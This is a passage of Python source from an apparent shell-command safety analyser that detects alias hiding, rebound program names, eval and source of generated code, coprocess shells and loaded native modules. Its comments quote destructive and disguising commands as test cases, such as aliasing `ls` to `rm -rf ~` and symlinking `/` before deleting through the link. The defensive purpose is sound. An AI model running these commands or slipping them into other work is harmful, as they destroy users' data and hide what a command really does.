        cmd.add(M, "env-setup", f"{cmd.name} loads a known tool's shell setup", script)
    elif script.dynamic and script.origin in ("static", "decoded"):
        found = cmd.scope.nested(script.text, "bash", script, -1, same_shell=same_shell)
        cmd.scope.include(found)
        if script.origin == "decoded":
            decoded_run(cmd, script.text, found, script, f"with {cmd.name}")
    elif script.dynamic and script.origin == "substitution":
        cmd.add(C, "eval-dynamic", f"{cmd.name} runs a script another command produces", script)
    elif base in cmd.scope.downloaded:
        cmd.add(C, "download-exec", f"runs {base}, which was just downloaded", script)
    elif script.text == "-" or script.text in STDIN_FILES:
        run_code_from_stdin(cmd, "bash")
    elif (fd := _FD_PATH.fullmatch(script.text)) is not None and not script.dynamic:
        # `bash /dev/fd/3` after `exec 3<<EOF`: the script is what descriptor 3 holds.
        saved = cmd.stdin
        cmd.stdin = cmd.scope.fds.get(int(fd.group(1)), Stdin(STDIN_OTHER))
        try:
            run_code_from_stdin(cmd, "bash")
        finally:
            cmd.stdin = saved
    else:
        cmd.add(M, "local-script", f"{cmd.name} runs the local script {script.text}", script)
        written_script(cmd, base, script, same_shell)
        if base == "configure":
            configure_operands(cmd, [w for w in cmd.args if w.start > script.start])


@handles("source", ".")
def _source(cmd: Cmd) -> None:
    ops = cmd.operands()
    if not ops and cmd.stdin.kind != STDIN_NONE:
        # (n18u) fish's `… | source` (no file): the code on stdin runs in this shell; a known
        # environment-setup tool's output (`zoxide init fish | source`) as `eval "$(…)"`
        before = cmd.scope.source[max(0, cmd.start - 200) : max(cmd.start, 0)].rstrip()
        stage = re.split(r"[|;&\n]", before[:-1])[-1].split() if before.endswith("|") else []
        while stage[:1] and stage[0] in ("and", "or", "not", "command", "builtin", "!"):
            stage = stage[1:]  # (fish's chaining words)
        if cmd.stdin.kind == STDIN_OTHER and stage and command_name(stage[0]) in ENV_SETUP:
            cmd.add(M, "env-setup", "evaluates the output of a known environment-setup tool")
            return
        run_code_from_stdin(cmd, "bash")
        return
    if ops:
        script_operand(cmd, ops[0], same_shell=True)
        script = ops[0]
        if script.dynamic and script.origin in ("static", "decoded"):
            same_shell_aliases(cmd, script.text)
            same_shell_functions(cmd, script.text)
        elif (
            script.text in ("-", *STDIN_FILES)
            and not script.dynamic
            and cmd.stdin.kind == STDIN_STATIC
        ):
            # `source /dev/stdin <<'EOF'`, `. /dev/stdin <<< 'alias …'` (n14u)
            same_shell_aliases(cmd, cmd.stdin.text)
            same_shell_functions(cmd, cmd.stdin.text)
        elif not script.dynamic and (held := cmd.scope.written.get(script.text.rsplit("/", 1)[-1])):
            same_shell_aliases(cmd, held[0])
            same_shell_functions(cmd, held[0])


# `alias NAME=VALUE` in text that runs in this shell (`eval`, `source`).
_ALIAS_DEFINED = re.compile(
    r"(?:^|[;&|\n{(]\s*)alias\s+(?:--\s+)?([\w.@%+:,-]+)=('[^']*'|\"[^\"]*\"|[^\s;&|]+)"
)


def same_shell_aliases(cmd: Cmd, text: str) -> None:
    """`source <(echo 'alias ls="rm -rf ~"')`, `eval 'alias ls=…'`: the code runs in this
    shell, so the aliases it defines hold for the commands after it (n13u)."""
    if "alias" not in text:
        return
    for m in _ALIAS_DEFINED.finditer(text):
        value = m.group(2)
        if value[:1] in ("'", '"'):
            value = value[1:-1]
        cmd.scope.env[ALIAS_PREFIX + m.group(1)] = value


# `name() {`, `function name {`, `function name() {` in text that runs in this shell.
_FUNC_DEFINED = re.compile(
    r"(?:^|[;&|\n{(])\s*(?:function\s+([\w.:@+-]+)\s*(?:\(\s*\))?|([\w.:@+-]+)\s*\(\s*\))\s*\{"
)


def _braced(text: str, i: int) -> str | None:
    """The text from `i` up to the `}` that closes the brace before `i` (quotes skipped)."""
    depth, quote, j = 1, "", i
    while j < len(text) and j - i < 4000:
        c = text[j]
        if quote:
            if c == quote:
                quote = ""
            elif c == "\\" and quote == '"':
                j += 1
        elif c in "'\"":
            quote = c
        elif c == "\\":
            j += 1
        elif c == "{":
            depth += 1
        elif c == "}":
            depth -= 1
            if depth == 0:
                return text[i:j]
        j += 1
    return None


def same_shell_functions(cmd: Cmd, text: str) -> None:
    """`source lib.sh` of a file the block wrote, `eval 'wipe() { rm -rf "$1"; }'`: the code
    runs in this shell, so the functions it defines are there for the commands after it; a
    later call is judged as the body with its arguments as $1… (n14u)."""
    if "{" not in text or ("(" not in text and "function" not in text):
        return  # (a cheap exit: every definition has a brace and `(` or `function`)
    for m in _FUNC_DEFINED.finditer(text):
        body = _braced(text, m.end())
        if body is not None:
            cmd.scope.env[FUNC_PREFIX + (m.group(1) or m.group(2))] = body


@handles("eval")
def _eval(cmd: Cmd) -> None:
    if not cmd.args:
        return
    first, last = cmd.args[0], cmd.args[-1]
    dynamic = [w for w in cmd.args if w.dynamic]
    text = " ".join(w.text for w in cmd.args)
    origin = dynamic[0].origin if dynamic else ""
    if any(w.origin == ORIGIN_NETWORK for w in dynamic):
        origin = ORIGIN_NETWORK
    code = Word(text, first.start, last.end, bool(dynamic), False, origin)
    start = first.start if len(cmd.args) == 1 else -1
    if not dynamic:
        same_shell_aliases(cmd, text)
        same_shell_functions(cmd, text)
    if text.lstrip().startswith(("echo ", "printf ")) and len(text) < 512:
        # `eval echo ~ | xargs rm -rf`: what the retyped echo prints goes down the pipe (p17)
        printed = eval_echo_text(text)
        if printed is not None:
            cmd.info.output = printed
    if not dynamic and len(cmd.args) == 1:
        cmd.scope.include(cmd.scope.nested(text, "bash", first, same_shell=True))
        return
    if not dynamic:
        cmd.scope.include(cmd.scope.nested(text, "bash", code, start, same_shell=True))
        return
    _run_code_arg(cmd, code, "bash", same_shell=True)


@handles("alias", "abbr")
def _alias(cmd: Cmd) -> None:
    words = list(cmd.args)
    if cmd.name == "abbr":
        words = [w for w in words if not w.text.startswith("-")]
    flags = "".join(w.text[1:] for w in words if w.text[:1] == "-" and "=" not in w.text)
    if ("g" in flags or "s" in flags) and cmd.name == "alias":
        _zsh_alias(cmd, [w for w in words if not w.text.startswith("-")], "g" in flags)
        return
    if len(words) == 2 and "=" not in words[0].text and not words[0].text.startswith("-"):
        # csh/tcsh/fish `alias ls 'rm -rf'`, fish `abbr -a ls 'rm -rf ~'`: name and value
        # as two words (n13u)
        lhs, rhs = words
        words = [Word(f"{lhs.text}={rhs.text}", lhs.start, rhs.end, rhs.dynamic)]
    for w in words:
        name, eq, value = w.text.partition("=")
        if not eq:
            continue
        cmd.scope.env[ALIAS_PREFIX + name] = value
        # Judged as written and with arguments after it (`alias x='sh -c'`).
        found = cmd.scope.nested(value, "bash", w, -1)
        found += cmd.scope.nested(value + ' "$@"', "bash", w, -1)
        level = max((f.level for f in found), default=S)
        try:
            first = shlex.split(value)[:1]
        except ValueError:
            first = value.split()[:1]
        runs = command_name(first[0]) if first else ""
        if level >= D and runs == name and _asks_first(value):
            # `alias rm='rm -i'`, `alias mv='mv -n'`: the same program made to ask or not to
            # overwrite; a later call is judged through the alias (n13u)
            cmd.add(M, "alias", f"alias {name} changes what a later command does", w)
        elif level >= D:
            cmd.add(C, "alias-hides", f"alias {name} hides a {level.label} command", w)
        elif level >= C:
            cmd.scope.include([f for f in found if f.level >= C])
        elif runs in _HIDDEN_RUNNERS and name not in _HIDDEN_RUNNERS and name != runs:
            # `alias python3='bash -s'`: a shell under another program's name runs whatever
            # is later fed to "python3".
            cmd.add(C, "alias-hides", f"alias {name} runs {runs} under another name", w)
        else:
            cmd.add(M, "alias", f"alias {name} changes what a later command does", w)


def _zsh_alias(cmd: Cmd, words: list[Word], global_: bool) -> None:
    """zsh's `alias -g NAME=VALUE` (the value replaces the word NAME anywhere in a later
    command: `rm -rf ROOT`, `curl … S` with S='| sh') and `alias -s EXT=VALUE` (running a file
    `x.EXT` runs `VALUE x.EXT`): kept in tables the later commands read (n14u)."""
    key = GLOBAL_ALIASES if global_ else SUFFIX_ALIASES
    pairs = [p for p in cmd.scope.env.get(key, "").split("\x01") if p]
    for w in words:
        name, eq, value = w.text.partition("=")
        if not eq or not name:
            continue
        pairs.append(f"{name}\x02{value}")
        if global_:
            cmd.add(M, "alias", f"global alias {name} changes what later commands say", w)
            continue
        # a suffix alias runs its value with the file's name after it
        found = cmd.scope.nested(value + " x." + name, "bash", w, -1)
        level = max((f.level for f in found), default=S)
        if level >= D:
            cmd.add(C, "alias-hides", f"suffix alias .{name} hides a {level.label} command", w)
        else:
            cmd.scope.include([f for f in found if f.level >= C])
            cmd.add(M, "alias", f"suffix alias .{name} changes what running a file does", w)
    cmd.scope.env[key] = "\x01".join(pairs[-32:])


_HIDDEN_RUNNERS = SHELLS | frozenset(names("eval source . exec"))
_ASKING_FLAGS = frozenset(
    names(
        "-i -I -v -iv -vi -n -nv -vn --interactive --interactive=always --verbose --preserve-root"
    )
    + names("--no-clobber --interactive=once")
)


def _asks_first(value: str) -> bool:
    """`rm -i`, `cp -iv`, `mv --no-clobber`: a program with only its asking flags."""
    parts = value.split()
    return len(parts) >= 2 and all(p in _ASKING_FLAGS for p in parts[1:])


# --- names rebound to another program (n13u) ---------------------------------------------
# `hash -p /bin/rm ls` and `cp /bin/rm /tmp/x` (ln, install, mv, link): from then on the
# name runs that program; dispatch judges a later call of the name as the program itself
# (`ls -rf /` is rm's root wipe). Bindings live in scope.env under BOUND_PREFIX.

PROGRAM_COPIERS = frozenset(
    names("cp ln install mv link gcp gln ginstall rsync dd scp ditto busybox-cp")
)
# A program's file: a path in a bin folder (`/usr/local/bin/x`, `/opt/homebrew/bin/x`,
# `/nix/store/…-coreutils/bin/x`), GNU's gnubin and coreutils' libexec/lib folders.
_PROGRAM_FILE = re.compile(
    r"\A(?:/[\w.+@-]+)*/(?:s?bin|gnubin|coreutils|libexec/coreutils)/([\w.+-]+)\Z"
)
# `$(command -v rm)`, `$(which rm)`, `` `type -P rm` ``: the path of a program by its name.
_LOOKED_UP = re.compile(
    r"\A[\"']?(?:\$\(|`)\s*(?:command\s+-v|which|type\s+-[pP]|whence\s+-p)\s+"
    r"([\w.+-]+)\s*(?:\)|`)[\"']?\Z"
)
# A copied program is on PATH (its bare name runs it) only in these folders, or in one
# the block put on PATH (r15: `cp /sbin/mkfs.ext4 ./backup/ls; ls` still runs /bin/ls).
_PATH_FOLDERS = frozenset(
    [
        "/bin",
        "/sbin",
        "/usr/bin",
        "/usr/sbin",
        "/usr/local/bin",
        "/usr/local/sbin",
        "~/bin",
        "~/.local/bin",
        "/opt/homebrew/bin",
        "/opt/local/bin",
        "/snap/bin",
        "~/.cargo/bin",
        "~/go/bin",
        "/usr/games",
    ]
)
# Bindings of files (a copy of a program): scope.env[FILE_BOUND + normalised path], and
# FILE_BOUND + bare name for a copy into a PATH folder. `hash -r` leaves these.
FILE_BOUND = "\x00boundfile:"
FILE_BOUND_ANY = "\x00boundfile-any"  # (set with the first binding: one key to test)


def written_on_path(scope: Scope, name: str) -> bool:
    """Whether a script the block wrote under `name` may be what the bare name runs: it was
    written into a PATH folder or one the block's PATH holds (or where is not known). A
    script left in /tmp/b is not found by `ls` unless PATH says so (n14u)."""
    folders = scope.env.get(WRITTEN_IN + name)
    if folders is None:
        return True
    mine = folders.split("\x01")
    if any(f in _PATH_FOLDERS for f in mine):
        return True
    for entry in scope.env.get("PATH", "").replace(" ", ":").split(":")[:32]:
        entry = posixpath.normpath(entry) if entry else "."
        if entry in mine:
            return True
        if entry in _PATH_FOLDERS and name in HANDLERS:
            return False  # (the system's folder comes first: its program runs)
    return False


def _norm_file(path: str) -> str:
    """`/tmp/./x`, `/tmp//x`, `./x` -> `/tmp/x`, `/tmp/x`, `x` (`~` kept as written)."""
    return posixpath.normpath(path)


def file_keys(scope: Scope, path: str) -> list[str]:
    """The normalised paths a file operand names from each possible working directory
    (Windows: case folded, `\\` as `/`, no program extension: `C:\\T\\f.com` is c:/t/f)."""
    windows = scope.family != "bash"
    if windows:
        path = re.sub(r"\.(?:exe|com|bat|cmd)\Z", "", path.replace("\\", "/").lower())
        if re.match(r"[a-z]:/", path):
            return [_norm_file(path)]
    if path.startswith(("/", "~")):
        return [_norm_file(path)]
    keys = []
    for cwd in scope.cwds:
        if cwd is not None and windows:
            cwd = cwd.lower()
        keys.append(_norm_file(path if cwd is None else cwd.rstrip("/") + "/" + path))
    return keys


def bound_program(scope: Scope, head: str) -> tuple[str, str] | None:
    """(env key, program) when `head` was rebound earlier in the block: a bare name by
    `hash -p`, zsh `hash name=path` or `BASH_CMDS[name]=path` (or a copy into a PATH
    folder); a path by a copy of a program to that file, from any cwd the block set."""
    env = scope.env
    if scope.family != "bash":
        if "\\" not in head and "/" not in head and FILE_BOUND_ANY not in env:
            return None  # (only a file copied in this block is rebound on Windows)
        # (n14w) a bare name finds the copy in the working directory first (cmd's lookup)
    elif "/" not in head:
        for key in (BOUND_PREFIX + head, FILE_BOUND + head):
            if key in env:
                return key, env[key]
        return None
    for key in file_keys(scope, head):
        if FILE_BOUND + key in env:
            return FILE_BOUND + key, env[FILE_BOUND + key]
    return None


def bind_name(scope: Scope, name: str, program: str) -> None:
    """`hash -p /bin/rm ls`, `BASH_CMDS[ls]=/bin/rm`: the bare name runs the program."""
    if name and "/" not in name and name != program:
        scope.env[BOUND_PREFIX + name] = program


def bind_file(scope: Scope, name: str, program: str) -> None:
    """A copy of `program` was written to the file `name`."""
    env = scope.env
    env[FILE_BOUND_ANY] = "1"
    for key in file_keys(scope, name):
        env[FILE_BOUND + key] = program
    folder, _, base = name.rstrip("/").rpartition("/")
    path_var = env.get("PATH", "")
    if (
        base
        and base != program
        and folder
        and (_norm_file(folder) in _PATH_FOLDERS or folder in path_var.split(":"))
    ):
        env[FILE_BOUND + base] = program  # `ln … ~/bin/clean; clean …`: found on PATH


def _program_of(cmd: Cmd, w: Word) -> str | None:
    """The program a copied file is: `/bin/rm` -> rm, `"$(command -v rm)"` -> rm, `$p`
    after `p=$(which rm)` -> rm."""
    raw = cmd.scope.source[w.start : w.end] if w.start >= 0 else ""
    m = _LOOKED_UP.match(raw)
    if m:
        return m.group(1)
    if w.dynamic:
        return None
    m = _PROGRAM_FILE.match(w.text)
    if m:
        return m.group(1)
    if cmd.scope.env and (copied := bound_program(cmd.scope, w.text)) is not None:
        return copied[1]  # a copy of a copy (`cp /bin/rm a; mv a b`) (n13u)
    if "/" not in w.text and ("$" in raw or "`" in raw) and w.text in HANDLERS:
        # (the analyser already resolved a looked-up path to the program's name)
        return w.text
    return None


def program_file(path: str) -> str | None:
    """`/usr/bin/shred` -> shred: a program's own file."""
    m = _PROGRAM_FILE.match(path)
    return m.group(1) if m else None


def _unbind_all(scope: Scope) -> None:
    for key in [key for key in scope.env if key.startswith(BOUND_PREFIX)]:
        del scope.env[key]


@handles("hash")
def _hash(cmd: Cmd) -> None:
    """`hash -p PATH name` and zsh's `hash name=PATH` bind a name; `hash -r` and `hash -d
    name` forget what hash bound (a copied program file is still that program)."""
    args = cmd.args
    texts = [w.text for w in args]
    if "-r" in texts:
        _unbind_all(cmd.scope)
        return
    path: str | None = None
    k = 0
    while k < len(args):
        t = args[k].text
        if t == "-p" and k + 1 < len(args):
            path = args[k + 1].text if not args[k + 1].dynamic else None
            k += 2
            continue
        if t.startswith("-p") and len(t) > 2:
            path = t[2:]
        elif not t.startswith("-") and "=" in t and "-d" not in texts and not args[k].dynamic:
            # (zsh's `hash -d name=dir` names a directory, not a program)
            name, _, target = t.partition("=")
            prog = command_name(target) if target else None
            if prog:
                bind_name(cmd.scope, name, prog)  # zsh `hash ls=/bin/rm`
        elif not t.startswith("-") and path is not None and not args[k].dynamic:
            prog = command_name(path)
            if prog:
                bind_name(cmd.scope, t, prog)
            if prog != t and program_file(path) is None:
                # (n20u, F17) `hash -p ./fake ssh`: the name runs a file that is no known
                # program, as an alias hiding the command would
                why = f"hash -p makes `{t}` run {path}, which the analyser cannot read"
                cmd.add(C, "alias-hides", why, args[k])
        elif not t.startswith("-") and "-d" in texts:
            cmd.scope.env.pop(BOUND_PREFIX + t, None)
        k += 1


# `coproc sh`, `coproc S { bash; }`: a shell that reads, as code, whatever is later written
# to the coprocess's input descriptor (`echo 'rm -rf ~' >&"${COPROC[1]}"`). The key holds
# the coprocess array's name (n13u).
COPROC_SHELL = "\x00coproc-shell"
_COPROC_BODY = re.compile(r"\A\s*(?:([A-Za-z_]\w*)\s+)?\{\s*(?:exec\s+)?(\S+)([^;}]*)")


@handles("coproc")
def _coproc(cmd: Cmd) -> None:
    args = cmd.args
    after = cmd.scope.source[cmd.end : cmd.end + 200] if cmd.end >= 0 else ""
    braced = len(args) <= 1 and after.lstrip(" \t").startswith("{")
    at = next((k for k, w in enumerate(args[:2]) if w.text == "{"), -1)
    if at >= 0 and len(args) > at + 1:
        # `coproc NAME { bash; }`: the grammar reads `coproc NAME { bash` as one command
        body = list(args[at + 1 :])
        cmd.info = cmd.judge(body, NO_STDIN)
        shell, rest_ = command_name(body[0].text), " ".join(w.text for w in body[1:])
        name = args[0].text if at == 1 else "COPROC"
    elif args and not braced:
        cmd.info = cmd.judge(list(args), NO_STDIN)  # `coproc CMD ARGS`: runs CMD
        shell, rest_ = command_name(args[0].text), " ".join(w.text for w in args[1:])
        name = "COPROC"
    else:
        # `coproc NAME { …; }`: the grammar leaves the braces to a statement of their own
        m = _COPROC_BODY.match(cmd.scope.source[cmd.words[0].end : cmd.end + 200])
        if m is None:
            return
        shell, rest_, name = command_name(m.group(2)), m.group(3), m.group(1) or "COPROC"
    if shell in SHELLS and not re.search(r"(?:^|\s)-\w*c", rest_):
        cmd.scope.env[COPROC_SHELL] = name


@handles("}")
def _close_brace(cmd: Cmd) -> None:
    """The `}` the grammar leaves alone after `coproc NAME { cmd; }`: the group's end; what
    follows on its line is still judged (n13u)."""
    if cmd.args:
        cmd.info = cmd.judge(list(cmd.args), cmd.stdin)


@handles("zmodload")
def _zmodload(cmd: Cmd) -> None:
    """zsh's `zmodload MODULE`: loads native code into the shell. zsh's own modules
    (`zsh/datetime`, `zsh/net/tcp`) are a change; any other name is a library found on
    `module_path` (which the block may point anywhere) that nobody here read (n13u)."""
    mods = [w for w in cmd.args if not w.text.startswith(("-", "+"))]
    if not mods or any(
        w.text.startswith("-") and ("u" in w.text or "L" in w.text) for w in cmd.args
    ):
        return  # a listing (`zmodload`, `zmodload -L`) or an unload
    if any(w.text.startswith("-") and ("F" in w.text or "a" in w.text) for w in cmd.args):
        mods = mods[:1]  # `zmodload -F zsh/files b:rm`, `-a zsh/x name`: names follow
    for w in mods:
        if w.dynamic or not re.fullmatch(r"zsh/[\w/]+", w.text):
            cmd.add(C, "config-exec", f"zmodload loads {w.text}, native code unread", w)
            return
    cmd.add(M, "changes", f"zmodload loads the zsh module {mods[0].text}")


@handles("setenv")
def _setenv(cmd: Cmd) -> None:
    """csh/tcsh `setenv NAME VALUE`: exported for every later command (n13u)."""
    if len(cmd.args) >= 2:
        _exported_as(cmd, cmd.args[0], cmd.args[1:])


def other_shell_export(cmd: Cmd) -> None:
    """fish's `set -x NAME VALUE…` (`-gx`, `-Ux`, `--export`): exported for every later
    command, as bash's `export NAME=VALUE` (n13u). bash's own `set -x` takes no name."""
    args = cmd.args
    k = 0
    exported = False
    while k < len(args) and args[k].text.startswith("-"):
        t = args[k].text
        exported = exported or t == "--export" or (t[1:2] != "-" and "x" in t[1:])
        k += 1
    fish_path = (
        k > 0
        and k < len(args)
        and args[k].text == "PATH"
        and all(a.text in _FISH_SCOPES or a.text in _FISH_GROW for a in args[:k])
    )  # (u21) `set -g PATH /tmp/b $PATH`: fish's PATH is always exported
    if (
        (exported or fish_path)
        and k + 1 < len(args)
        and re.fullmatch(r"[A-Za-z_]\w*", args[k].text)
    ):
        values = list(args[k + 1 :])
        growth = {a.text for a in args[:k]} & _FISH_GROW
        if growth and args[k].text == "PATH":
            # (u22) `set -a PATH /tmp/b` adds after what PATH held, `set -p` before it
            prior = Word("$PATH", args[k].start, args[k].end, dynamic=True)
            values = [prior, *values] if growth & {"-a", "--append"} else [*values, prior]
        _exported_as(cmd, args[k], values)
    elif (
        k + 1 < len(args)
        and all(a.text in _FISH_SCOPES or a.text in _FISH_GROW for a in args[:k])
        and re.fullmatch(r"[a-z_]\w*", args[k].text)
        and not args[k].dynamic
    ):
        # fish's `set [-l|-g|-U] NAME VALUE…` (n18u): NAME holds the values for the later
        # commands (bash's `set a b` sets $1 $2; bash writes `set -- …` for that); (u22)
        # `set -a NAME V…` / `set -p NAME V…` append or prepend to the list it held
        values = args[k + 1 :]
        grow = next((a.text for a in args[:k] if a.text in _FISH_GROW), "")
        held = cmd.scope.env.get(args[k].text, "") if grow else ""
        if any(w.dynamic and w.origin != "static" for w in values):
            cmd.scope.env.pop(args[k].text, None)
        else:
            new = [w.text for w in values]
            items = [held, *new] if grow in ("-a", "--append") else [*new, held]
            cmd.scope.env[args[k].text] = " ".join(x for x in items if x)


_FISH_SCOPES = frozenset(["-l", "--local", "-g", "--global", "-U", "--universal", "-f", "--path"])
_FISH_GROW = frozenset(["-a", "--append", "-p", "--prepend"])


def _exported_as(cmd: Cmd, name: Word, values: Sequence[Word]) -> None:
    if name.dynamic or not re.fullmatch(r"[A-Za-z_]\w*", name.text):
        return
    # (u21) fish's PATH is a list: `set -x PATH /tmp/b $PATH` is PATH=/tmp/b:…
    value = (":" if name.text == "PATH" else " ").join(w.text for w in values)
    line = f"export {name.text}={shlex.quote(value)}"
    cmd.scope.include(cmd.scope.nested(line, "bash", Word(value, name.start, values[-1].end), -1))
    if any(w.dynamic for w in values):
        cmd.scope.env.pop(name.text, None)
    else:
        cmd.scope.env[name.text] = value
    cmd.scope.exported.add(name.text)
    if name.text == "PATH":
        # (u21) a folder anyone may write searched first: later bare names may be files
        # from there (as bash's `PATH=/tmp/b:$PATH`, which sets this in the walker)
        front = risky_path_front(values[0].text) if values and not values[0].dynamic else ""
        if front:
            cmd.scope.env[PATH_FRONT] = front
        else:
            cmd.scope.env.pop(PATH_FRONT, None)


# bash's loadable builtins as packaged (bash-builtins, the examples/loadables build).
_LOADABLES_DIR = re.compile(r"\A/(?:usr/(?:local/)?)?lib(?:64|/[\w-]+-linux-gnu)?/bash/[\w.-]+\Z")


@handles("enable")
def _enable(cmd: Cmd) -> None:
    """bash's `enable`: `-f FILE NAME` loads a builtin from a shared object, which then
    runs in the shell whenever NAME is called (a library nobody here read is opaque code);
    `-n NAME` turns a builtin off (the program of that name runs instead); listings (`-a`,
    `-p`, `-s`) only print (n13u)."""
    args = cmd.args
    for i, w in enumerate(args):
        t = w.text
        lib: Word | None = None
        if t == "-f" and i + 1 < len(args):
            lib = args[i + 1]
        elif t.startswith("-") and not t.startswith("--") and t.endswith("f") and i + 1 < len(args):
            lib = args[i + 1]  # `-nf`, `-sf`
        if lib is None:
            continue
        if lib.dynamic or not (
            _LOADABLES_DIR.match(lib.text) or ("/" not in lib.text and "." not in lib.text)
        ):
            cmd.add(C, "config-exec", f"enable loads a builtin from {lib.text}, code unread", lib)
        else:
            cmd.add(M, "changes", f"enable loads the packaged builtin {lib.text}", lib)
        return
    if any(not w.text.startswith("-") for w in args) and any(
        w.text.startswith("-") and "n" in w.text for w in args
    ):
        cmd.add(M, "changes", "enable -n turns a builtin off (the program runs instead)")


def through_link(scope: Scope, w: Word, follow: bool = False) -> Word:
    """`rm -rf /tmp/r/`, `rm -rf ./h/*` after `ln -s / /tmp/r`, `ln -s ~ ./h`: a path that
    goes through a link this text made onto a protected folder is that folder's path (a
    trailing slash or a glob follows the link; the bare link name is only the link)."""
    pairs = scope.env.get(UNIX_LINKS)
    if not pairs or w.dynamic:
        return w
    text = w.text.removeprefix("./")
    if follow:
        text = text.rstrip("/") + "/"  # `find -L LINK`: the link is followed
    for pair in pairs.split("\x01"):
        link, _sep, target = pair.partition("\x02")
        if text.startswith(link + "/"):
            rest = text[len(link) + 1 :]
            joined = target.rstrip("/") + "/" + rest if rest else (target.rstrip("/") or "/")
            if target == "/" and not rest:
                joined = "/"
            return Word(joined, w.start, w.end, w.dynamic, w.glob, w.origin)
    return w


def linked_folder(cmd: Cmd, srcs: list[Word], dest: Word | None) -> None:
    """`ln -s / /tmp/r`, `ln -sfn ~ ./h`, `mount --bind / /mnt/r`: remember links (and bind
    mounts) onto protected folders."""
    from aintern_ls.safety.paths import classify_path

    if dest is None or dest.dynamic or len(srcs) != 1 or srcs[0].dynamic:
        return
    target = srcs[0].text
    if classify_path(target.rstrip("/") + "/*", cmd.scope.cwds).level < B:
        return
    link = dest.text.removeprefix("./").rstrip("/")
    old = cmd.scope.env.get(UNIX_LINKS)
    pair = f"{link}\x02{target}"
    cmd.scope.env[UNIX_LINKS] = f"{old}\x01{pair}" if old else pair


def copied_program(cmd: Cmd) -> None:
    """`cp /bin/rm /tmp/cleaner`, `ln -s /sbin/mkfs.ext4 ./fmt`, `install /bin/dd
    /usr/local/bin/copy`, `rsync -a /bin/rm x`, `dd if=/bin/rm of=x`: the new file is that
    program under another name."""
    if cmd.name == "dd":
        src = next((w for w in cmd.args if w.text.startswith("if=")), None)
        out = next((w for w in cmd.args if w.text.startswith("of=")), None)
        if src is not None and out is not None and not out.dynamic and not src.dynamic:
            m = _PROGRAM_FILE.match(src.text[3:])
            if m:
                bind_file(cmd.scope, out.text[3:], m.group(1))
        return
    ops = cmd.operands(
        frozenset(names("-t --target-directory -m --mode -o --owner -g --group -S --suffix"))
    )
    into = cmd.option_value("-t", "--target-directory")
    if into is not None:
        srcs, dest = [w for w in ops if w is not into], None
    elif len(ops) == 2:
        srcs, dest = ops[:1], ops[1]
    else:
        return
    if cmd.name in ("ln", "gln"):
        linked_folder(cmd, srcs, dest)
    if dest is not None and (dest.dynamic or ":" in dest.text.split("/", 1)[0]):
        return  # (a remote destination, `host:/tmp/x`, is not run here)
    for src in srcs:
        prog = _program_of(cmd, src)
        if prog is None:
            continue
        if dest is not None and not dest.text.endswith("/"):
            bind_file(cmd.scope, dest.text, prog)
        else:
            folder = (into.text if into is not None else dest.text if dest else "").rstrip("/")
            if folder and not (into is not None and into.dynamic):
                bind_file(cmd.scope, f"{folder}/{prog}", prog)


# (r15) Windows: a copy of a program from the system folders runs that program.
# (n14w) the whole class: a copy, a move, a rename, a hard or symbolic link (mklink, New-Item
# -ItemType HardLink|SymbolicLink) of a system program, or of a file already bound to one,
# under any name; the source spelled with %windir%/%SystemRoot%/$env:windir or taken from
# `(Get-Command x).Source` / `where.exe x`.
WIN_PROGRAM_COPIERS = frozenset(
    names(
        "copy xcopy copy-item cpi move move-item mi ren rename rename-item rni mklink new-item ni"
    )
)
_WIN_PROGRAM_FILE = re.compile(
    r"(?i)\A[a-z]:[\\/]+windows[\\/]+(?:system32|syswow64|sysnative)[\\/]+([\w.+-]+)\Z"
)
_WIN_ROOT = re.compile(
    r"(?i)\A(?:%(?:windir|systemroot)%|\$\{?env:(?:windir|systemroot)\}?)(?=[\\/])"
)
_LOOKED_UP_WIN = re.compile(
    r"(?is)\A\(?\s*\(\s*(?:get-command|gcm)\s+(?:-name\s+)?['\"]?([\w.+-]+)['\"]?\s*\)\s*\.\s*"
    r"(?:source|path|definition)\s*\)?\Z|\A\(\s*where(?:\.exe)?\s+([\w.+-]+)\s*\)\Z"
)
_RENAMERS = frozenset(names("ren rename rename-item rni"))
_WIN_EXE_FILE = re.compile(r"(?i)\A(?:[a-z]:)?[\\/](?:[^\\/]+[\\/])*([\w.+-]+\.(?:exe|com))\Z")


def _win_program_of(cmd: Cmd, w: Word) -> str | None:
    raw = cmd.scope.source[w.start : w.end] if 0 <= w.start < w.end else ""
    if "(" in raw and (m := _LOOKED_UP_WIN.match(raw.strip())) is not None:
        return command_name(m.group(1) or m.group(2), True)
    text = _WIN_ROOT.sub(lambda _: "C:\\Windows", w.text.strip("'\""))
    m = _WIN_PROGRAM_FILE.match(text)
    if m is not None:
        return command_name(m.group(1), True)
    m = _WIN_EXE_FILE.match(text)
    if m is not None and (name := command_name(m.group(1), True)) in HANDLERS:
        # (n14w) any program file we know by its name, wherever it lives
        # (`…\WindowsPowerShell\v1.0\powershell.exe`, `C:\Tools\sdelete64.exe`)
        return name
    if not w.dynamic and cmd.scope.env and (bound := bound_program(cmd.scope, text)) is not None:
        return bound[1]  # a copy of a copy (`copy …\bcdedit.exe a.exe & ren a.exe b.exe`)
    return None


def win_copied_program(cmd: Cmd) -> None:
    """`copy C:\\Windows\\System32\\format.com C:\\t\\f.com`, `Copy-Item -Path … -Destination
    …`, `ren`, `mklink /h LINK TARGET`, `New-Item -ItemType HardLink -Path L -Target T`: the
    new file is that program under another name (cmd and PowerShell)."""
    name = cmd.name
    src = dest = None
    kind = ""
    pos: list[Word] = []
    args = cmd.args
    k = 0
    while k < len(args) and k < 24:
        w = args[k]
        low = w.text.lower()
        value = args[k + 1] if k + 1 < len(args) else None
        if low in ("-path", "-literalpath", "-lp", "-p") and value is not None:
            if name in ("new-item", "ni"):
                dest = value
            else:
                src = value
            k += 2
            continue
        if low in ("-destination", "-dest", "-newname") and value is not None:
            dest, k = value, k + 2
            continue
        if low in ("-target", "-value") and value is not None:
            src, k = value, k + 2
            continue
        if low in ("-itemtype", "-type", "-it") and value is not None:
            kind, k = value.text.strip("'\"").lower(), k + 2
            continue
        if low.startswith("/") and len(low) <= 3:
            kind = kind or ("hardlink" if low == "/h" else "link" if low in ("/j", "/d") else "")
        elif not low.startswith("-"):
            pos.append(w)
        k += 1
    if name in ("new-item", "ni"):
        if kind not in ("hardlink", "symboliclink") or src is None:
            return
        dest = dest or (pos[0] if pos else None)
    elif name == "mklink":
        if kind == "link" or len(pos) < 2:
            return  # (a junction or directory link: `winpaths.link_made`)
        dest, src = pos[0], pos[1]
    else:
        if src is None:
            src, pos = (pos[0], pos[1:]) if pos else (None, pos)
        if dest is None and pos:
            dest = pos[0]
